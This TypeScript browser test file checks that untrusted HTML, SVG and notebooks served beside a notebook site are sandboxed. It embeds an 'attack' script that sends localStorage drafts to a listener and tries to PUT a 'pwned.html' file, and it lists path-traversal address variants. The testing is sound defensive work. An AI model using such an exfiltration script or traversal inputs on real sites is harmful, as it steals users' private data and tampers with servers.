/** What lies beside the site in a real browser: pages there do nothing with the site's rights, and notebooks there ask like any from elsewhere. */
import {existsSync} from "node:fs";
import {mkdir, mkdtemp, readFile, rm, writeFile} from "node:fs/promises";
import {createServer, type Server} from "node:http";
import type {AddressInfo} from "node:net";
import {tmpdir} from "node:os";
import {join} from "node:path";
import type {Page} from "playwright-core";
import {afterAll, beforeAll, beforeEach, describe, expect, it} from "vitest";
import {renderNotebook} from "../../src/cli/render-notebook.ts";
import {errors, idle, openSite, values, type Site} from "../browser/chromium.ts";

let site: Site;
let folder: string;
let listener: Server;
/** The paths that anybody asked the other server for. */
const heard: string[] = [];
const at = (...path: string[]) => join(folder, ...path);

const secret = "my unpublished notebook";

/** A script that takes drafts away and writes a notebook. */
const attack = (port: number) => `
  const out = (what) => { new Image().src = "http://localhost:${port}/" + what; fetch("http://localhost:${port}/" + what, {mode: "no-cors"}).catch(() => {}); };
  try { out("drafts-" + encodeURIComponent(JSON.stringify(localStorage))); } catch { out("no-drafts"); }
  fetch("/notebooks/pwned.html", {method: "PUT", headers: {"Content-Type": "text/html"}, body: "<notebook></notebook>"}).then(({status}) => out("put-" + status), () => out("no-put"));`;

const notebook = (port: number) => `<!doctype html>
<notebook>
  <title>Beside</title>
  <script id="1" type="module">
    const ran = 1;
  </script>
  <script id="2" type="module">
    import {openPairs} from "diagonal";
    await fetch("http://localhost:${port}/cell").catch(() => {});
  </script>
  <script id="3" type="module" pinned="">
    const pairs = await openPairs("data/private", {limit: 8, invalidation});
  </script>
</notebook>
`;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "diagonal-lent-"));
  listener = createServer((request, response) => {
    heard.push(request.url!);
    response.writeHead(204, {"Access-Control-Allow-Origin": "*", "Cross-Origin-Resource-Policy": "cross-origin"}).end();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  const {port} = listener.address() as AddressInfo;
  for (const name of ["outside", "data", "notebooks"]) await mkdir(at(name));
  await writeFile(at("outside/evil.html"), `<!doctype html><title>Evil</title><script>${attack(port)}</script>`);
  await writeFile(at("outside/evil.svg"), `<svg xmlns="http://www.w3.org/2000/svg"><script>${attack(port)}</script></svg>`);
  // Sandboxed even where it is shown.
  await writeFile(at("outside/picture.png"), await readFile("notebooks/site/pictures/first-light.png"));
  for (const path of ["outside/x.html", "data/x.html"]) await writeFile(at(path), notebook(port));
  site = await openSite({notebooks: at("notebooks"), mounts: {"/mount/outside/": at("outside"), "/data/": at("data")}});
});
afterAll(async () => {
  await site?.close();
  listener?.closeAllConnections();
  listener?.close();
  await rm(folder, {recursive: true, force: true});
});
beforeEach(() => void heard.splice(0));

/** A page of the site in a browser that holds a draft. */
async function pageWithDraft(): Promise<Page> {
  const page = await site.newPage();
  await page.goto(site.url);
  await page.evaluate((text) => localStorage.setItem("diagonal:draft:new:mine", JSON.stringify({text, base: "", savedAt: "2026-01-01T00:00:00Z"})), secret);
  return page;
}

/** Whether an answer of a page that did what it wanted has come, and what became of the site. */
const harm = () => ({heard: [...heard], isWritten: existsSync(at("notebooks/pwned.html"))});

describe("a page beside the site", () => {
  it.each(["evil.html", "evil.svg"])("%s is saved when it is opened, and does nothing", async (name) => {
    const page = await pageWithDraft();
    const [download] = await Promise.all([page.waitForEvent("download"), page.goto(`${site.url}mount/outside/${name}`).catch(() => undefined)]);
    expect(download.suggestedFilename()).toBe(name);
    expect(page.url()).toBe(site.url);
    // In a frame, and as a picture, of a page of the site.
    const show = (kind: "iframe" | "img") => page.evaluate(([kind, address]) => document.body.append(Object.assign(document.createElement(kind), {src: address})), [kind, `mount/outside/${name}`] as const);
    await Promise.all([page.waitForEvent("download"), show("iframe")]);
    await show("img");
    await page.waitForFunction(() => document.querySelector<HTMLImageElement>("body > img")?.complete);
    expect(harm()).toEqual({heard: [], isWritten: false});
    await page.context().close();
  });

  it("is of no origin where a browser shows it all the same", async () => {
    const page = await pageWithDraft();
    // A browser that takes no notice of "save this".
    await page.route("**/mount/outside/evil.*", async (route) => {
      const response = await route.fetch();
      const {"content-disposition": _, ...headers} = response.headers();
      await route.fulfill({response, headers});
    });
    for (const name of ["evil.html", "evil.svg"]) {
      await page.goto(`${site.url}mount/outside/${name}`);
      await page.waitForLoadState("load");
      expect(await page.evaluate(() => window.origin)).toBe("null");
      expect(harm()).toEqual({heard: [], isWritten: false});
    }
    await page.context().close();
  });

  it("pictures are still to be looked at", async () => {
    const page = await site.newPage();
    await page.goto(`${site.url}mount/outside/picture.png`);
    expect(await page.evaluate(() => document.images[0].naturalWidth)).toBeGreaterThan(100);
    await page.context().close();
  });
});

describe("a notebook beside the site", () => {
  it.each(["mount/outside/x.html", "data/x.html", "/data/x.html", "%64ata/x.html", "mount%2Foutside%2Fx.html", "mount\\outside\\x.html", "notebooks/../mount/outside/x.html", "./mount/outside/./x.html"])("%s asks before it runs, has no network, and asks for what it reads", async (address) => {
    const page = await pageWithDraft();
    await page.goto(`${site.url}notebook.html?${new URLSearchParams({open: address})}`);
    await page.waitForFunction(() => "diagonal" in window);
    const banner = page.getByRole("region", {name: "A notebook from elsewhere"});
    expect(await banner.textContent()).toContain("which lies beside this site and is no part of it");
    expect(await values(page)).toEqual({});
    await banner.getByRole("button", {name: "Run it"}).press("Enter");
    const dialog = page.getByRole("dialog", {name: "Let this notebook read a data set?"});
    await dialog.getByRole("button", {name: "No"}).press("Enter");
    await idle(page);
    expect(await values(page)).toMatchObject({ran: 1});
    expect((await errors(page)).map(({cell}) => cell)).toContain(3);
    expect(heard).toEqual([]);
    await page.context().close();
  });

  it("runs unasked where the caller of render named it, wherever it lies", async () => {
    const text = "<!doctype html>\n<notebook>\n  <title>Mine</title>\n  <script id=\"1\" type=\"module\">\n    const beside = await FileAttachment(\"numbers.json\").json();\n    const named = await FileAttachment(\"mounts/more/numbers.json\").json();\n  </script>\n</notebook>\n";
    await mkdir(at("my notebooks"));
    await writeFile(at("my notebooks/a & b.html"), text);
    await writeFile(at("my notebooks/numbers.json"), "[1, 2]");
    await mkdir(at("more"));
    await writeFile(at("more/numbers.json"), "[3]");
    const {json, errors: failed} = await renderNotebook({notebook: at("my notebooks/a & b.html"), mounts: {more: at("more")}});
    expect(failed).toEqual([]);
    expect(json).toMatchObject({beside: [1, 2], named: [3]});
  });
});
